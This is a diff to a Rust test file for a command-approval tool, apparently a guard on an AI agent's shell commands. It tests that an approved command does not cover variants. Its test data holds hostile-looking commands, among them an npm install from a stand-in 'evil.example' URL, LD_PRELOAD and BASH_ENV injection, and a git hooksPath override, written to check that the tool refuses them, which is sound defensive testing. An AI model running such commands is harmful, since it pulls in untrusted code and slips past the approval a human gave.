@@ -481,6 +481,7 @@ const COVERAGE: &[(&str, &str, bool)] = &[
     ("make build", "make build SHELL=/tmp/x", false),
     ("make build", "make build -j4", false),
     ("make build", "./make build", false),
+    ("make build", "make build x.o", true),
     ("make build", "env LD_PRELOAD=/tmp/x.so make build", false),
     ("bash -c 'echo hi'", "bash -c 'echo hi'", true),
     ("bash -c 'echo hi'", "BASH_ENV=/dev/stdin bash -c 'echo hi' <<< 'id'", false),
@@ -494,6 +495,13 @@ const COVERAGE: &[(&str, &str, bool)] = &[
     ("git config user.email a@b.c", "git config user.email a@b.c", true),
     ("git config user.email a@b.c", "git config core.hooksPath /tmp/h", false),
     ("git config user.email a@b.c", "git config user.email a@b.c core.pager", false),
+    // Installers: other package names are covered, paths and URLs (where code comes from) are not.
+    ("npm install left-pad", "npm install is-even", true),
+    ("npm install left-pad", "npm install https://evil.example/x.tgz", false),
+    ("npm install left-pad", "npm install github:evil/x", false),
+    ("npm install left-pad", "npm install ./x.tgz", false),
+    ("npm install left-pad", "npm install /tmp/x", false),
+    ("npm install left-pad", "npm install .", false),
 ];
 
 #[test]
@@ -513,11 +521,15 @@ fn a_session_grant_covers_the_words_the_human_saw_and_nothing_added() {
     }
 }
 
+/// Approved commands a default rule asks about: ask beats allow, so no
+/// always-allow rule is written for them (only session grants cover them).
+const RULE_ASKED: &[&str] = &["npm install left-pad"];
+
 #[test]
 fn an_always_allow_rule_read_back_covers_what_the_grant_covers() {
     let env = TestEnv::new();
     let t = watch(&env);
-    let mut approved: Vec<&str> = COVERAGE.iter().map(|r| r.0).collect();
+    let mut approved: Vec<&str> = COVERAGE.iter().map(|r| r.0).filter(|c| !RULE_ASKED.contains(c)).collect();
     approved.dedup();
     for (i, cmd) in approved.iter().enumerate() {
         let h = spawn_hook(&env, &bash(&env, "s1", &format!("g{i}"), cmd), &[]);
@@ -536,7 +548,7 @@ fn an_always_allow_rule_read_back_covers_what_the_grant_covers() {
     assert!(policy.contains("command = [\"'bash' '-c' 'echo hi'\"]"), "{policy}");
     assert_eq!(policy.matches("[[rule]]").count(), approved.len(), "{policy}");
     assert_eq!(env.run(&["policy", "check"]).status.code(), Some(0));
-    for (base, cmd, covered) in COVERAGE {
+    for (base, cmd, covered) in COVERAGE.iter().filter(|r| !RULE_ASKED.contains(&r.0)) {
         let (d, reason) = env.decision(cmd);
         assert_eq!(d == "allow", *covered, "always rule for {base:?}, call {cmd:?}: {d} {reason}\n{policy}");
     }
